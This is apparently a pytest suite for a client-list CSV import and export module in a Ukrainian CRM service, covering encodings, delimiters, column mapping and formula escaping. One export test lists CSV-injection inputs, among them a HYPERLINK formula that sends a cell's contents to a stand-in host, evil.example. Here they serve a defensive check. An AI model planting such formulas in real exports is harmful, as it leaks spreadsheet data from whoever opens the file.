"""Client lists in and out of CSV: what Excel and other CRMs save, and what Excel opens."""

from __future__ import annotations

import io
import random
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "services" / "clients"))

from chalicelib.clients.domain.spreadsheet import (
    FIELDS,
    MAX_IMPORT_BYTES,
    MAX_IMPORT_ROWS,
    NotCsv,
    RowError,
    TooLarge,
    check_size,
    decode,
    read_table,
    rows_as_records,
    safe_cell,
    suggest_mapping,
    write_csv,
)

CLIENTS = "ПІБ;Телефон;Примітка\r\nОлена Петренко;050 123 45 67;Постійна клієнтка\r\n"


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as workbook:
        workbook.writestr("[Content_Types].xml", "<Types/>")
        workbook.writestr("xl/workbook.xml", "<workbook/>")
        workbook.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return buffer.getvalue()


def _records(text: str) -> list[tuple[int, dict[str, list[str]] | RowError]]:
    table = read_table(text)
    return list(rows_as_records(table, suggest_mapping(table.header)))


# -- decode ---------------------------------------------------------------------------------


def test_utf8_file_is_read_as_utf8():
    # given
    data = CLIENTS.encode("utf-8")
    # when
    text = decode(data)
    # then
    assert text == CLIENTS


def test_byte_order_mark_of_excel_csv_utf8_is_dropped():
    # given
    data = b"\xef\xbb\xbf" + CLIENTS.encode("utf-8")
    # when
    text = decode(data)
    # then
    assert text == CLIENTS


def test_csv_from_excel_on_ukrainian_windows_is_read_as_windows_1251():
    # given
    written = CLIENTS + "Ґанна Їжак;067 000 00 00;Об’єкт №5 – «Євро»\r\n"
    data = written.encode("cp1251")
    # when
    text = decode(data)
    # then
    assert text == written


def test_text_in_neither_encoding_is_refused():
    # given: byte 0x98 is the one byte Windows-1251 leaves undefined
    data = "ПІБ;Телефон\r\n".encode("cp1251") + b"\x98\r\n"
    # when / then
    with pytest.raises(NotCsv, match="not a text file"):
        decode(data)


def test_bytes_after_a_utf8_mark_that_are_not_utf8_are_refused():
    # given
    data = b"\xef\xbb\xbf" + "ПІБ;Телефон\r\n".encode("cp1251")
    # when / then
    with pytest.raises(NotCsv, match="not valid UTF-8"):
        decode(data)


def test_excel_workbook_is_refused_with_advice_to_save_it_as_csv():
    # given
    data = _xlsx()
    # when
    with pytest.raises(NotCsv) as refused:
        decode(data)
    # then
    assert "This is an Excel workbook (.xlsx); save it as CSV" in str(refused.value)


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG picture"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF document"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG picture"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "(.xls)"),
        (b"PK\x03\x04\x14\x00\x00\x00clients.csv", "ZIP archive"),
    ],
)
def test_other_kinds_of_file_are_refused_by_name(data, named):
    # when
    with pytest.raises(NotCsv) as refused:
        decode(data)
    # then
    assert named in str(refused.value)


def test_unicode_text_from_excel_is_refused_with_advice():
    # given
    data = "\ufeffПІБ\tТелефон\r\n".encode("utf-16-le")
    # when / then
    with pytest.raises(NotCsv, match=r"UTF-16.*CSV UTF-8"):
        decode(data)


def test_web_page_named_xls_is_refused():
    # given
    data = b"<html><body><table><tr><td>Name</td></tr></table></body></html>"
    # when / then
    with pytest.raises(NotCsv, match="web page"):
        decode(data)


@pytest.mark.parametrize("seed", range(5))
def test_random_binary_is_refused(seed):
    # given
    data = random.Random(seed).randbytes(4096)  # noqa: S311 - reproducible noise, not a secret
    # when / then
    with pytest.raises(NotCsv):
        decode(data)


def test_text_full_of_control_characters_is_refused():
    # given: no NUL byte and valid UTF-8, but not what anyone types
    data = ("name\x01\x02\x03;x\x1b\x1b\r\n" * 20).encode("utf-8")
    # when / then
    with pytest.raises(NotCsv, match="not a text file"):
        decode(data)


@given(st.binary())
def test_any_bytes_decode_to_text_or_are_refused_as_not_csv(data):
    # when
    try:
        text = decode(data)
    except NotCsv:
        return
    # then
    assert isinstance(text, str)


def test_upload_over_the_byte_limit_is_refused():
    # when / then
    check_size(MAX_IMPORT_BYTES)
    with pytest.raises(TooLarge, match="20 MB"):
        check_size(MAX_IMPORT_BYTES + 1)


# -- read_table -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("ПІБ;Телефон\nОлена;050\n", ";"),
        ("Name,Phone\nOlena,050\n", ","),
        ("Name\tPhone\nOlena\t050\n", "\t"),
    ],
)
def test_delimiter_is_found(text, delimiter):
    # when
    table = read_table(text)
    # then
    assert table.delimiter == delimiter
    assert table.header == ["ПІБ" if delimiter == ";" else "Name", "Телефон" if delimiter == ";" else "Phone"]
    assert [row.cells for row in table.rows] == [["Олена" if delimiter == ";" else "Olena", "050"]]


def test_commas_in_addresses_do_not_make_a_semicolon_file_comma_separated():
    # given
    text = "ПІБ;Адреса\nОлена;Київ, Хрещатик, 1\nІван;Львів, Площа Ринок, 2\n"
    # when
    table = read_table(text)
    # then
    assert table.delimiter == ";"
    assert table.rows[1].cells == ["Іван", "Львів, Площа Ринок, 2"]


def test_semicolons_in_notes_do_not_make_a_comma_file_semicolon_separated():
    # given
    text = 'Name,Note\nOlena,"tea; coffee; juice"\nIvan,"one; two"\n'
    # when
    table = read_table(text)
    # then
    assert table.delimiter == ","
    assert table.rows[0].cells == ["Olena", "tea; coffee; juice"]


def test_quoted_cell_keeps_its_line_breaks_delimiters_and_doubled_quotes():
    # given
    text = 'ПІБ;Примітка\r\nОлена;"Дзвонити після 18:00;\r\nкомпанія ""Ромашка"""\r\n'
    # when
    table = read_table(text)
    # then
    assert table.rows[0].cells == ["Олена", 'Дзвонити після 18:00;\r\nкомпанія "Ромашка"']


def test_rows_carry_the_line_they_start_on_when_a_cell_spans_lines():
    # given
    text = 'ПІБ;Примітка\nОлена;"перший\nдругий\nтретій"\nІван;\n'
    # when
    table = read_table(text)
    # then
    assert [(row.line, row.number) for row in table.rows] == [(2, 2), (5, 3)]


def test_blank_rows_are_skipped_and_still_counted():
    # given
    text = "ПІБ;Телефон\n\n;\nОлена;050\n;;\n"
    # when
    table = read_table(text)
    # then
    assert [(row.line, row.cells) for row in table.rows] == [(4, ["Олена", "050"])]


def test_file_of_one_column_is_a_table():
    # given
    text = "name\nПетренко, Олена\nІван Іваненко\n"
    # when
    table = read_table(text)
    # then
    assert table.header == ["name"]
    assert [row.cells for row in table.rows] == [["Петренко, Олена"], ["Іван Іваненко"]]


def test_rows_of_the_wrong_length_are_kept_for_their_own_report():
    # given
    text = "ПІБ;Телефон;E-mail\nОлена;050\nІван;067;ivan@example.com;зайве\n"
    # when
    table = read_table(text)
    # then
    assert [len(row.cells) for row in table.rows] == [2, 4]


@pytest.mark.parametrize("text", ["", "\r\n\r\n", ";;;\n;;;\n"])
def test_file_without_a_header_is_refused(text):
    # when / then
    with pytest.raises(NotCsv, match="first row should name the columns"):
        read_table(text)


@pytest.mark.parametrize(
    "first_row", ["Олена Петренко;050 123 45 67", "Олена Петренко;olena@example.com", "Олена;+380501234567"]
)
def test_first_row_that_holds_a_client_instead_of_column_names_is_refused(first_row):
    # given
    text = first_row + "\nІван;067 000 00 00\n"
    # when / then
    with pytest.raises(NotCsv, match="add a row with column names"):
        read_table(text)


def test_prose_that_does_not_split_into_columns_is_refused():
    # given
    text = (
        "Dear colleagues, here is the list.\n"
        "We met Olena, Ivan; and Petro at the fair, all three.\n"
        "Call them; soon.\n"
        "Thanks, regards, and, see you\n"
        "Ivan; Petro, and Olena.\n"
    )
    # when / then
    with pytest.raises(NotCsv, match="do not split into the same columns"):
        read_table(text)


def test_quote_left_open_is_refused_with_its_line():
    # given
    text = 'ПІБ;Примітка\nОлена;ok\nІван;"не закрито\nПетро;050\nМарія;067\n'
    # when / then
    with pytest.raises(NotCsv, match=r"Line 3: a quote .* never closed"):
        read_table(text)


def test_stray_quotes_inside_a_cell_are_tolerated():
    # given
    text = 'Назва;Телефон\nТОВ "Ромашка";050\n"Ромашка" ТОВ;067\n'
    # when
    table = read_table(text)
    # then
    assert [row.cells for row in table.rows] == [['ТОВ "Ромашка"', "050"], ["Ромашка ТОВ", "067"]]


def test_the_row_limit_is_allowed():
    # given
    text = "name\n" + "Олена\n" * MAX_IMPORT_ROWS
    # when
    table = read_table(text)
    # then
    assert len(table.rows) == MAX_IMPORT_ROWS


def test_more_rows_than_the_limit_are_refused():
    # given
    text = "name\n" + "Олена\n" * (MAX_IMPORT_ROWS + 1)
    # when / then
    with pytest.raises(TooLarge, match="50,000"):
        read_table(text)


# -- suggest_mapping ------------------------------------------------------------------------


UKRAINIAN = {
    "ПІБ": "name",
    "Тип": "kind",
    "Компанія": "company",
    "Телефон": "phone",
    "E-mail": "email",
    "Telegram": "telegram",
    "Viber": "viber",
    "Адреса": "address",
    "Місто": "city",
    "Теги": "tags",
    "Примітка": "note",
    "Джерело": "source",
    "Відповідальний": "owner",
}
RUSSIAN = {
    "ФИО": "name",
    "Организация": "company",
    "Мобильный": "phone",
    "Эл. почта": "email",
    "Адрес": "address",
    "Город": "city",
    "Метки": "tags",
    "Комментарий": "note",
    "Источник": "source",
    "Ответственный": "owner",
}
ENGLISH = {
    "Full name": "name",
    "Company": "company",
    "Mobile": "phone",
    "Email": "email",
    "Address": "address",
    "City": "city",
    "Tags": "tags",
    "Notes": "note",
    "Source": "source",
    "Owner": "owner",
}
OTHER_WORDS = {
    "Клієнт": "name",
    "Тел.": "phone",
    "Пошта": "email",
    "Коментар": "note",
    "Мітки": "tags",
    "Менеджер": "owner",
    "Назва": "name",
    "Ел. пошта": "email",
    "Comment": "note",
    "Контакт": "name",
    "Phone": "phone",
}


@pytest.mark.parametrize(
    "columns", [UKRAINIAN, RUSSIAN, ENGLISH, OTHER_WORDS], ids=["uk", "ru", "en", "other"]
)
def test_column_names_in_ukrainian_russian_and_english_are_recognised(columns):
    # given
    header = list(columns)
    # when
    mapping = suggest_mapping(header)
    # then
    assert mapping == dict(enumerate(columns.values()))


@pytest.mark.parametrize("written", ["Ім'я", "Імя", "Имя", "Name"])
def test_a_lone_first_name_column_is_the_name(written):
    # when
    mapping = suggest_mapping([written, "Телефон"])
    # then
    assert mapping == {0: "name", 1: "phone"}


@pytest.mark.parametrize(
    "written", ["  пІб ", "П.І.Б.", "ПIБ", "піб:", "E-MAIL", "e_mail", "Імʼя", "ІМ’Я", "ТЕЛ"]
)
def test_column_names_are_compared_without_case_spaces_punctuation_or_lookalike_letters(written):
    # when
    mapping = suggest_mapping([written])
    # then
    assert mapping[0] in {"name", "email", "phone"}


def test_name_next_to_a_surname_column_is_the_first_name():
    # given
    header = ["Прізвище", "Ім'я", "По батькові", "Телефон"]
    # when
    mapping = suggest_mapping(header)
    # then
    assert mapping == {0: "last_name", 1: "first_name", 2: "middle_name", 3: "phone"}


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (["Фамилия", "Имя"], {0: "last_name", 1: "first_name"}),
        (["Last name", "First name"], {0: "last_name", 1: "first_name"}),
        (["Surname", "Name"], {0: "last_name", 1: "first_name"}),
    ],
)
def test_split_name_columns_in_russian_and_english_are_recognised(header, expected):
    # when / then
    assert suggest_mapping(header) == expected


def test_several_phone_columns_all_map_to_phone():
    # given
    header = ["Name", "Phone 1", "Phone 2", "Мобільний", "Телефон робочий"]
    # when
    mapping = suggest_mapping(header)
    # then
    assert mapping == {0: "name", 1: "phone", 2: "phone", 3: "phone", 4: "phone"}


def test_columns_with_a_name_of_another_field_inside_map_to_that_field():
    # given
    header = ["Назва компанії", "Контактний телефон", "Ім'я менеджера", "Адреса ел. пошти"]
    # when
    mapping = suggest_mapping(header)
    # then
    assert mapping == {0: "company", 1: "phone", 2: "owner", 3: "email"}


def test_unknown_columns_are_left_out():
    # given
    header = ["Name", "Дата народження", "ІПН", "", "Сума покупок"]
    # when
    mapping = suggest_mapping(header)
    # then
    assert mapping == {0: "name"}


@given(st.lists(st.text(max_size=30), max_size=8))
def test_suggested_fields_are_always_allowed_fields(header):
    # when
    mapping = suggest_mapping(header)
    # then
    assert set(mapping.values()) <= set(FIELDS)
    assert set(mapping) <= set(range(len(header)))


# -- rows_as_records ------------------------------------------------------------------------


def test_row_becomes_its_fields_with_empty_cells_left_out_and_values_stripped():
    # given
    text = "ПІБ;Телефон;E-mail;Дата народження\n  Олена Петренко ;050 123 45 67; ;1990-01-01\n"
    # when
    records = _records(text)
    # then
    assert records == [(2, {"name": ["Олена Петренко"], "phone": ["050 123 45 67"]})]


def test_field_takes_values_from_every_column_mapped_to_it():
    # given
    text = "Name;Phone 1;Phone 2\nOlena;050 123 45 67;067 000 00 00\n"
    # when
    records = _records(text)
    # then
    assert records[0][1] == {"name": ["Olena"], "phone": ["050 123 45 67", "067 000 00 00"]}


def test_phones_emails_and_tags_listed_in_one_cell_are_separate_values():
    # given
    text = 'ПІБ;Телефон;E-mail;Теги\nОлена;"050 123 45 67, 067 000 00 00";"a@x.ua; b@x.ua";"vip, опт"\n'
    # when
    records = _records(text)
    # then
    assert records[0][1] == {
        "name": ["Олена"],
        "phone": ["050 123 45 67", "067 000 00 00"],
        "email": ["a@x.ua", "b@x.ua"],
        "tags": ["vip", "опт"],
    }


def test_notes_are_not_split_at_commas():
    # given
    text = 'ПІБ;Примітка\nОлена;"Київ, Хрещатик, 1"\n'
    # when
    records = _records(text)
    # then
    assert records[0][1]["note"] == ["Київ, Хрещатик, 1"]


def test_name_parts_are_joined_into_the_name():
    # given
    text = "Прізвище;Ім'я;По батькові;Телефон\nПетренко;Олена;Іванівна;050\nІваненко;Іван;;067\n"
    # when
    records = _records(text)
    # then
    assert [record["name"] for _, record in records] == [["Олена Іванівна Петренко"], ["Іван Іваненко"]]
    assert not {"first_name", "middle_name", "last_name"} & set(records[0][1])


def test_row_of_the_wrong_length_is_an_error_of_that_row_only():
    # given
    text = "ПІБ;Телефон;E-mail\nОлена;050\nІван;067;ivan@example.com\n"
    # when
    records = _records(text)
    # then
    assert records[0] == (2, RowError(2, records[0][1].message))
    assert "Row 2 has 2 cells, but the first row names 3 columns" in records[0][1].message
    assert records[1] == (3, {"name": ["Іван"], "phone": ["067"], "email": ["ivan@example.com"]})


def test_row_error_names_the_line_the_record_starts_on_after_cells_with_line_breaks():
    # given
    text = 'ПІБ;Примітка\nОлена;"рядок 1\nрядок 2\nрядок 3"\nІван;зайве;ще\n'
    # when
    records = _records(text)
    # then
    line, error = records[1]
    assert line == 5 and isinstance(error, RowError) and error.line == 5
    assert "Row 3 (line 5 of the file) has 3 cells" in error.message


def test_trailing_empty_cells_are_not_a_wrong_length():
    # given
    text = "ПІБ;Телефон\nОлена;050;;\n"
    # when
    records = _records(text)
    # then
    assert records == [(2, {"name": ["Олена"], "phone": ["050"]})]


def test_mapping_to_an_unknown_field_is_refused():
    # given
    table = read_table("ПІБ;Телефон\nОлена;050\n")
    # when / then
    with pytest.raises(ValueError, match="'password' is not a client field"):
        rows_as_records(table, {0: "name", 1: "password"})


def test_mapping_of_a_column_the_file_lacks_is_refused():
    # given
    table = read_table("ПІБ;Телефон\nОлена;050\n")
    # when / then
    with pytest.raises(ValueError, match="no column 3"):
        rows_as_records(table, {2: "phone"})


# -- export ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_cell_that_a_spreadsheet_would_run_as_a_formula_gets_a_quote_in_front(cell):
    # when / then
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("phone", ["+380671234567", "+48600123456", "+123456"])
def test_phone_in_e164_is_exported_as_it_is(phone):
    # when / then
    assert safe_cell(phone) == phone


@pytest.mark.parametrize(
    "cell", ["+380 67 123 45 67", "+380671234567+1", "+12345", "+1234567890123456", "+٣٨٠٦٧١٢٣٤٥٦٧"]
)
def test_plus_followed_by_anything_but_6_to_15_ascii_digits_is_escaped(cell):
    # when / then
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Олена", "050 123 45 67", "", "a=b", " =1", "'quoted"])
def test_ordinary_cell_is_exported_as_it_is(cell):
    # when / then
    assert safe_cell(cell) == cell


def test_utf8_export_starts_with_a_byte_order_mark_for_excel():
    # when
    data = write_csv(["ПІБ", "Телефон"], [["Олена", "+380501234567"]])
    # then
    assert data == '\ufeff"ПІБ";"Телефон"\r\n"Олена";"+380501234567"\r\n'.encode()


def test_windows_1251_export_replaces_what_it_cannot_encode():
    # when
    data = write_csv(["ПІБ", "Сума"], [["Обʼєкт Ґанна", "100 ₴"]], encoding="windows-1251")
    # then
    assert data.decode("cp1251") == '"ПІБ";"Сума"\r\n"Об’єкт Ґанна";"100 ?"\r\n'


def test_export_escapes_formulas_in_the_header_and_every_row():
    # when
    data = write_csv(["=name"], [["@SUM(A1)"], ["ok"]], delimiter=",")
    # then
    assert data.decode("utf-8-sig") == '"\'=name"\r\n"\'@SUM(A1)"\r\n"ok"\r\n'


def test_export_refuses_a_delimiter_the_import_would_not_read():
    # when / then
    with pytest.raises(ValueError, match="delimiter"):
        write_csv(["a"], [], delimiter="|")


def test_windows_1251_export_is_read_back():
    # given
    data = write_csv(
        ["ПІБ", "Примітка"], [["Ґанна", "Київ, вул. Січових Стрільців; 5"]], encoding="windows-1251"
    )
    # when
    table = read_table(decode(data))
    # then
    assert table.header == ["ПІБ", "Примітка"]
    assert table.rows[0].cells == ["Ґанна", "Київ, вул. Січових Стрільців; 5"]


_CELL = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\t\r\n;,\"'=+-@ "),
    max_size=12,
)


@st.composite
def _tables(draw):
    width = draw(st.integers(min_value=1, max_value=5))
    header = ["Поле " + cell for cell in draw(st.lists(_CELL, min_size=width, max_size=width))]
    rows = draw(st.lists(st.lists(_CELL, min_size=width, max_size=width), max_size=8))
    return header, rows


@given(_tables(), st.sampled_from([";", ",", "\t"]))
def test_exported_table_is_imported_back_as_it_was_with_formulas_escaped(table, delimiter):
    # given
    header, rows = table
    data = write_csv(header, rows, delimiter=delimiter)
    # when
    read = read_table(decode(data))
    # then
    escaped_rows = [[safe_cell(cell) for cell in row] for row in rows]
    assert read.delimiter == delimiter or len(header) == 1
    assert read.header == [safe_cell(cell) for cell in header]
    assert [row.cells for row in read.rows] == [row for row in escaped_rows if any(c.strip() for c in row)]
